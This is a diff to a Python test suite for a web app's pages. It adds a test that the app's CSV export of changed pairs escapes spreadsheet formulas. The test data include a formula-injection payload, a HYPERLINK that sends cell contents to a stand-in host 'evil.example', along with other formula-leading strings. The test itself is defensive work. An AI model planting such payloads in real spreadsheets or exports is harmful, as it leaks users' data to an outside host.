@@ -1,5 +1,6 @@
 """Every page, on a real database: what it shows, and that others' text stays text."""
 
+import csv
 import re
 from collections.abc import Callable
 from contextlib import AbstractContextManager
@@ -68,6 +69,41 @@ def test_changes_are_searched_by_interest(owner: TestClient) -> None:
     assert "0 changed pairs have “zebra”" in text(owner.get(f"/reviews/{REVIEW}?interest=zebra").text)
 
 
+def test_what_changed_goes_to_a_spreadsheet_in_which_no_text_is_a_formula(
+    site: Callable[..., AbstractContextManager[TestClient]], make_database: Callable[[], str], tmp_path: Path
+) -> None:
+    evil = (
+        '=HYPERLINK("http://evil.example?"&A1)',
+        "+1",
+        " -2+3",
+        "@SUM(A1)",
+        "\t=1",
+        "＝1",
+        "a=b",
+        "x,y",
+        'say "hi"',
+        *world.NAMES[9:],
+    )
+    url = make_database()
+    context = Context(Settings(postgres_url=url, temporal_address="127.0.0.1:1"))
+    with context.engine.begin() as connection:
+        world.fill(connection, RunIds("rag-refresh-2026-10-03", "run-9"), evil, REVIEW)
+    context.engine.dispose()
+    with site(url) as client:
+        client.get("/login", params={"token": tokens.issue(tmp_path)})
+        answer = client.get("/changes.csv?before=1&after=3")
+        shown = int(re.search(r"([\d,]+) changed pairs", text(client.get("/changes?before=1&after=3").text))[1])  # type: ignore[index]
+    assert answer.headers["content-type"].startswith("text/csv")
+    assert answer.headers["content-disposition"] == 'attachment; filename="changes-1-3.csv"'
+    head, *rows = csv.reader(answer.text.splitlines())
+    assert len(rows) == shown
+    assert head[2:5] == ["first", "then", "traffic"]
+    cells = {cell for row in rows for place in (2, 3, 6, 8) for cell in (row[place],)}
+    assert not [cell for cell in cells if cell.lstrip().startswith(tuple("=+-@＝"))]
+    assert {"'" + evil[0], "'+1", "' -2+3", "a=b", "x,y", 'say "hi"'} <= cells
+    assert all(cell.isdecimal() for row in rows for cell in (*row[:2], row[4], row[5], row[7]))
+
+
 def test_explore_answers_now_in_every_version_and_what_users_did(owner: TestClient) -> None:
     shown = text(owner.get("/explore?first=meat&second=candy, seasonal").text)
     assert "default answers" in shown
@@ -134,7 +170,10 @@ def test_the_files_of_the_page_are_served_and_every_page_is_tried_here(owner: Te
     for name in ("style.css", "driftline.js", "icon.svg"):
         assert owner.get(f"/static/{name}").status_code == 200
     tried = {re.sub(r"\?.*", "", place) for place in PAGES}
-    shown = {route.path for route in GUARDED if isinstance(route, Route) and "GET" in (route.methods or ())} - {"/runs/events"}
+    shown = {route.path for route in GUARDED if isinstance(route, Route) and "GET" in (route.methods or ())} - {
+        "/runs/events",
+        "/changes.csv",
+    }
     assert len(shown) == len(tried)
 
 
